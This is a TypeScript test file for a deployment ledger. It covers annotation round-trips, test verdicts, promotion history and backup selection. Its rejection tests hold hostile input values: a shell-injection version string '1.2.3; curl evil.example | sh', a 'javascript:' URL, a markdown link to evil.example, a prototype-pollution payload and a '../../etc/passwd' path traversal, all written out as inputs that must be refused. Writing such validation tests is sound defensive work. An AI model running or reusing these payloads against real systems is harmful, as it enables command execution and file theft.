import type { Digest } from '@delivery/core/domain/digest';
import type { LedgerEntry, LedgerEvent, LedgerRecord } from '@delivery/core/domain/ledger';
import {
  annotationsOf,
  backupsBefore,
  inOrder,
  promotionHistory,
  recordOf,
  stableBefore,
  testedVerdict,
  testEventOf,
} from '@delivery/core/domain/ledger';
import { parseTopology } from '@delivery/core/domain/delivery/parse';
import { randomOf } from '@delivery/testing/random';

const digest = (id: number): Digest => `sha256:${id.toString(16).padStart(64, '0')}`;
const run = 'https://github.example.org/acme/stack/actions/runs/7001/attempts/2';
const entry: LedgerEntry = {
  event: 'promoted',
  verdict: 'success',
  at: new Date('2026-09-15T16:00:00.123Z'),
  by: 'dependabot[bot]',
  run,
  reason: 'For the beam time.',
  project: 'production',
  version: '2026.08.3',
  build: 268,
  previous: digest(7),
};

let serial = 0;
function record(event: LedgerEvent, minute: number, given: Partial<LedgerRecord> = {}): LedgerRecord {
  const at = new Date(Date.UTC(2026, 8, 15, 16, minute));
  const own = run.replace(/runs\/\d+/, `runs/${minute}`);
  return { event, verdict: 'success', at, by: 'ada', run: own, reason: '', digest: digest(++serial), ...given };
}

describe('a record', () => {
  it('says everything in annotations, and is read back as it was', () => {
    const annotations = annotationsOf(entry);
    expect(annotations).toEqual({
      'org.opencontainers.image.created': '2026-09-15T16:00:00.123Z',
      'delivery.actions/event': 'promoted',
      'delivery.actions/verdict': 'success',
      'delivery.actions/by': 'dependabot[bot]',
      'delivery.actions/run': run,
      'delivery.actions/reason': 'For the beam time.',
      'delivery.actions/project': 'production',
      'delivery.actions/version': '2026.08.3',
      'delivery.actions/build': '268',
      'delivery.actions/previous': digest(7),
    });
    expect(recordOf(digest(1), annotations)).toEqual({ ...entry, digest: digest(1) });
  });

  it('leaves out what there is not', () => {
    const { event, verdict, at, by, reason } = entry;
    const short = { event, verdict, at, by, run, reason, project: undefined };
    const annotations = annotationsOf(short);
    expect(Object.keys(annotations)).toHaveLength(6);
    expect(recordOf(digest(1), annotations)).toEqual({ ...short, digest: digest(1) });
  });

  it.each([
    ['an event that there is not', 'event', 'deployed'],
    ['a verdict that there is not', 'verdict', 'SUCCESS'],
    ['a run that is no address', 'run', 'javascript:alert(1)//actions/runs/1'],
    ['a run that is another page', 'run', 'https://github.example.org/acme/stack/settings'],
    ['a run with more behind it', 'run', `${run}\n| evil |`],
    ['a run without end', 'run', `https://x/${'a/'.repeat(100_000)}actions/runs/1`],
    ['a project with markup', 'project', '[x](http://evil.example)'],
    ['a version with a suffix', 'version', '1.2.3-x'],
    ['a version for a shell', 'version', '1.2.3; curl evil.example | sh'],
    ['a build that is no number', 'build', '268 '],
    ['a previous that is no digest', 'previous', 'stable'],
    ['a reason without end', 'reason', 'x'.repeat(100_000)],
    ['a name without end', 'by', 'x'.repeat(100_000)],
  ])('is none with %s', (_, name, value) => {
    const annotations = { ...annotationsOf(entry), [`delivery.actions/${name}`]: value };
    expect(recordOf(digest(1), annotations)).toBeUndefined();
  });

  it.each(['event', 'verdict', 'by', 'run', 'reason'])('is none without %s', (name) => {
    const rest = Object.entries(annotationsOf(entry)).filter(([key]) => key !== `delivery.actions/${name}`);
    expect(recordOf(digest(1), Object.fromEntries(rest))).toBeUndefined();
  });

  it.each(['', 'yesterday', '2026-09-15', '2026-13-45T00:00:00Z', '1789488000'])('is none of the time %j', (time) => {
    const annotations = { ...annotationsOf(entry), 'org.opencontainers.image.created': time };
    expect(recordOf(digest(1), annotations)).toBeUndefined();
  });

  it('takes nothing from what an object has by nature', () => {
    expect(recordOf(digest(1), Object.create(annotationsOf(entry)) as Record<string, string>)).toBeUndefined();
    const annotations = JSON.parse(`{"__proto__": ${JSON.stringify(annotationsOf(entry))}}`) as Record<string, string>;
    expect(recordOf(digest(1), annotations)).toBeUndefined();
  });
});

describe('whether a build was tested', () => {
  it('is not known without a record of that event', () => {
    expect(testedVerdict([record('built', 1), record('loaded', 2)], 'tested')).toEqual({ is: 'untested' });
  });

  it('is decided by the newest, whatever the order', () => {
    const good = record('tested', 1);
    const bad = record('tested', 2, { verdict: 'failure' });
    const goodAgain = record('tested', 3);
    expect(testedVerdict([bad, good], 'tested')).toEqual({ is: 'failed', record: bad });
    expect(testedVerdict([goodAgain, bad, good], 'tested')).toEqual({ is: 'tested', record: goodAgain });
  });

  it('is decided by the failure where both are of one time', () => {
    const both = [record('tested', 1, { verdict: 'failure' }), record('tested', 1)];
    expect(testedVerdict(both, 'tested').is).toBe('failed');
    expect(testedVerdict(both.reverse(), 'tested').is).toBe('failed');
  });

  it('asks for a load where the image is only launched', () => {
    const topology = parseTopology(
      `images: {web: {repository: r.example.org/web}, loader: {repository: r.example.org/loader}, bare: {repository: r.example.org/bare}}
projects:
  test:
    namespace: test
    follows: latest
    workloads: {web: [{kind: Deployment, name: web, container: web}]}
    jobs: {loader: {cronJob: loader}, web: {cronJob: once}}
`,
      'delivery.yaml',
    );
    expect(['web', 'loader', 'bare'].map((image) => testEventOf(topology, image))).toEqual([
      'tested',
      'loaded',
      'tested',
    ]);
  });
});

describe('the history of promotions', () => {
  const [a, b, c] = [digest(0xa), digest(0xb), digest(0xc)];

  it('has each digest once, by its last promotion, a rollback being one', () => {
    const records = new Map([
      [a, [record('promoted', 1), record('rolled-back', 5, { previous: b })]],
      [b, [record('tested', 9), record('promoted', 3, { previous: a })]],
      [c, [record('promoted', 2, { verdict: 'failure' }), record('built', 1)]],
    ]);
    expect(promotionHistory(records)).toEqual([a, b]);
  });

  it('leaves out what the same run has taken back, and keeps what others have promoted', () => {
    const { run: same } = record('promoted', 5);
    const takenBack = [record('promoted', 5), record('promoted', 6, { run: same, verdict: 'failure' })];
    expect(promotionHistory(new Map([[a, takenBack]]))).toEqual([]);
    expect(stableBefore(a, [record('promoted', 1, { previous: b }), ...takenBack])).toBe(b);
  });

  it('is the order in which the promotions were made, for any of them', () => {
    for (let seed = 1; seed <= 200; seed++) {
      const random = randomOf(seed);
      const made: Digest[] = [];
      const records = new Map<Digest, LedgerRecord[]>();
      for (let minute = 1; minute <= 30; minute++) {
        const one = digest(1 + Math.floor(random() * 8));
        const verdict = random() < 0.3 ? 'failure' : 'success';
        const event = random() < 0.3 ? 'rolled-back' : 'promoted';
        records.set(one, [...(records.get(one) ?? []), record(event, minute, { verdict })]);
        if (verdict === 'success') made.unshift(one);
      }
      expect(promotionHistory(records)).toEqual([...new Set(made)]);
    }
  });

  it('knows what was stable before, by the newest promotion of what is stable', () => {
    const records = [record('rolled-back', 5, { previous: b }), record('promoted', 1, { previous: c })];
    expect(stableBefore(a, records)).toBe(b);
    expect(stableBefore(a, [...records, record('promoted', 7, { previous: c, verdict: 'failure' })])).toBe(b);
    expect(stableBefore(a, [...records, record('promoted', 8, { previous: a })])).toBe(b);
    expect(stableBefore(a, [record('promoted', 1), record('tested', 2, { previous: c })])).toBeUndefined();
  });
});

it('puts records in the same order, however they come', () => {
  const records = Array.from({ length: 40 }, (_, at) =>
    record('tested', at % 7, { verdict: at % 3 === 0 ? 'failure' : 'success' }),
  );
  const sorted = inOrder(records);
  const random = randomOf(5);
  for (let round = 0; round < 50; round++) {
    const shuffled = records.map((one) => ({ one, by: random() })).sort((x, y) => x.by - y.by);
    expect(inOrder(shuffled.map(({ one }) => one))).toEqual(sorted);
  }
});

describe('the backup that was made before a build became stable', () => {
  const file = (hour: number) => `backup-2026-09-15T${String(hour).padStart(2, '0')}:00:00Z-fragalysis.sql.zst`;

  it('is the newest of each project', () => {
    const records = [
      record('backed-up', 3, { project: 'production', reason: file(9) }),
      record('backed-up', 1, { project: 'production', reason: file(8) }),
      record('backed-up', 2, { project: 'staging', reason: file(7) }),
    ];
    expect(backupsBefore(records)).toEqual(
      new Map([
        ['production', file(9)],
        ['staging', file(7)],
      ]),
    );
  });

  it('is nothing that is no name of a backup, failed, or belongs to no project', () => {
    const records = [
      record('backed-up', 1, { project: 'production', reason: '../../etc/passwd' }),
      record('backed-up', 2, { project: 'production', reason: file(8), verdict: 'failure' }),
      record('backed-up', 3, { reason: file(8) }),
      record('promoted', 4, { project: 'production', reason: file(8) }),
    ];
    expect(backupsBefore(records).size).toBe(0);
  });
});
